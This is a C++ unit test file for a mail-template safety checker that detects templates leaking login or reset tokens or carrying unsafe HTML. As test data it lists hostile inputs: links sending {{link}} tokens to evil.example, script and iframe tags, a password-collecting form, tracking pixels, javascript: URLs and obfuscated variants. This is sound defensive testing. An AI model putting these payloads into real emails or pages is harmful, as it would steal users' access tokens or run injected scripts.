#include "kernel/mail/wording_safety.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <filesystem>
#include <fstream>
#include <sstream>

namespace guildhall::mail {
namespace {

using ::testing::HasSubstr;
using ::testing::IsEmpty;

const sdk::Value resetSample{{"name", "Ada"},
                             {"person", {{"link", "https://hall.example/set-password?token=sample"}}},
                             {"link", "https://hall.example/magic-link?token=sample"},
                             {"portal_url", "https://hall.example"}};

std::string html(const std::string& source) {
    const auto problems = unsafeHtml(source, resetSample);
    return problems.empty() ? "" : problems.front().message;
}
std::string text(const std::string& source) {
    const auto problems = unsafeText(source, resetSample);
    return problems.empty() ? "" : problems.front().message;
}

TEST(WordingSafety, LetsAnAccessLinkStandAsAWholeAddressOrAsText) {
    for (const auto* source :
         {"<p>Dear {{name}},</p><p><a href=\"{{link}}\" style=\"color:#fff; padding:12px 24px\">Sign in</a></p>",
          "<a href='{{ person.link }}' rel=\"noopener\" target=\"_blank\">In</a><br><a href=\"{{link}}\">{{link}}</a>",
          "<p>Open ({{link}}) or\n{{link}}</p>", "<a href=\"{{portal_url}}/help?for={{name}}\">Help</a>",
          "<a href=\"mailto:help@hall.example\">Write</a>{{! a remark }}<img src=\"data:image/png;base64,AA==\" "
          "alt=\"{{name}}\">",
          "<table role=\"presentation\" width=\"100%\"><tr><td "
          "align=\"center\">{{#name}}{{name}}{{/name}}</td></tr></table>"})
        EXPECT_EQ(html(source), "") << source;
    EXPECT_EQ(
        text("Open this:\n\n{{link}}\n\n{{#name}}\n{{link}}\n{{/name}}\nor <{{person.link}}>, at {{portal_url}}/x"),
        "");
}

TEST(WordingSafety, RefusesAnAccessLinkWhereSomebodyElseGetsIt) {
    for (const auto* source :
         {"<img src=\"https://evil.example/?{{link}}\">", "<a href=\"https://evil.example/?{{link}}\">x</a>",
          "<a href=\"{{link}}&next=https://evil.example\">x</a>",
          "<a href=\"{{portal_url}}/?to={{person.link}}\">x</a>", "<p title=\"{{link}}\">x</p>",
          "<p style=\"background:url({{link}})\">x</p>", "<p>https://evil.example/?{{link}}</p>",
          "<p>https://evil.example/?<b>{{link}}</b></p>", "<p>https://evil.example/?{{#name}} {{/name}}{{link}}</p>",
          "<p>https://evil.example/?{{^name}}\n{{/name}}\n{{link}}</p>", "<p>{{name}}{{link}}</p>",
          "<p>https://evil.example/?{{#link}}{{.}}{{/link}}</p>",
          "<p>https://evil.example/?{{#person}}{{link}}{{/person}}</p>"})
        EXPECT_NE(html(source), "") << source;
    EXPECT_THAT(text("https://evil.example/?{{link}}"), HasSubstr("{{link}} lets its reader in"));
    EXPECT_THAT(text("https://evil.example/?{{! x }}\n{{link}}"), HasSubstr("lets its reader in"));
    EXPECT_THAT(unsafeSubject("Sign in: {{link}}", resetSample), ::testing::SizeIs(1));
    EXPECT_THAT(unsafeSubject("Sign in, {{name}}", resetSample), IsEmpty());
}

TEST(WordingSafety, RefusesScriptsFormsAndContentsFromElsewhereInEveryMail) {
    for (const auto* source : {"<script>x</script>",
                               "<SCRIPT src=\"https://evil.example/x.js\"></SCRIPT>",
                               "<p onclick=\"x()\">x</p>",
                               "<form action=\"https://evil.example\"><input name=\"password\"></form>",
                               "<iframe src=\"https://evil.example\"></iframe>",
                               "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
                               "<style>@import url(https://evil.example)</style>",
                               "<img src=\"https://evil.example/pixel.gif\">",
                               "<img src=\"data:image/svg+xml;base64,AA==\">",
                               "<img src=//evil.example/x>",
                               "<td background=\"https://evil.example/x.png\">x</td>",
                               "<p style=\"background-image:url('https://evil.example/x')\">x</p>",
                               "<p style=\"background:\\75rl(https://evil.example)\">x</p>",
                               "<p style=\"background:&#117;rl(https://evil.example)\">x</p>",
                               "<a href=\"javascript:alert(1)\">x</a>",
                               "<a href=\"&#106;avascript:alert(1)\">x</a>",
                               "<a href=\"{{name}}\">x</a>",
                               "<a href=\"{{#name}}https://evil.example{{/name}}\">x</a>",
                               "<base href=\"https://evil.example\">",
                               "<svg onload=\"x()\">",
                               "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
                               "<!--[if mso]><img src=\"https://evil.example\"><![endif]-->",
                               "<a{{name}}>x</a>",
                               "<a href=\"https://ok.example",
                               "<img/src=\"https://evil.example/x\">",
                               "<p>1 < 2</p>"})
        EXPECT_NE(html(source), "") << source;
}

TEST(WordingSafety, TellsTheLineAndTheReason) {
    const auto problems = unsafeHtml("<p>Hello</p>\n\n<script>x</script>", resetSample);
    ASSERT_FALSE(problems.empty());
    EXPECT_EQ(problems.front().line, 3u);
    EXPECT_THAT(problems.front().message, HasSubstr("no scripts, forms, style sheets or contents from elsewhere"));
    EXPECT_THAT(unsafe({"Hi", "Open x{{link}}", ""}, resetSample),
                HasSubstr("Text, line 1: {{link}} lets its reader in"));
}

TEST(WordingSafety, IsWhatTheShippedWordingsHave) {
    std::size_t seen = 0;
    for (const auto* folder : {"/themes/govuk/pages/kernel/mail", "/plugins/certificates/templates/mail"}) {
        const std::filesystem::path place = std::string(GUILDHALL_SOURCE_DIR) + folder;
        if (!std::filesystem::exists(place)) continue;
        for (const auto& entry : std::filesystem::directory_iterator(place)) {
            std::ostringstream source;
            source << std::ifstream(entry.path()).rdbuf();
            auto known = resetSample;
            known["verify_url"] = "https://hall.example/verify/x";
            for (const auto* link : {"certificate", "survey"})
                known[std::string(link) + "_url"] = "https://hall.example/" + std::string(link) + "?token=x";
            const bool isHtml = entry.path().extension() == ".html";
            const auto problems = isHtml ? unsafeHtml(source.str(), known) : unsafeText(source.str(), known);
            EXPECT_THAT(problems, IsEmpty()) << entry.path() << ": " << (problems.empty() ? "" : problems[0].message);
            ++seen;
        }
    }
    EXPECT_GE(seen, 8u);
}

}  // namespace
}  // namespace guildhall::mail
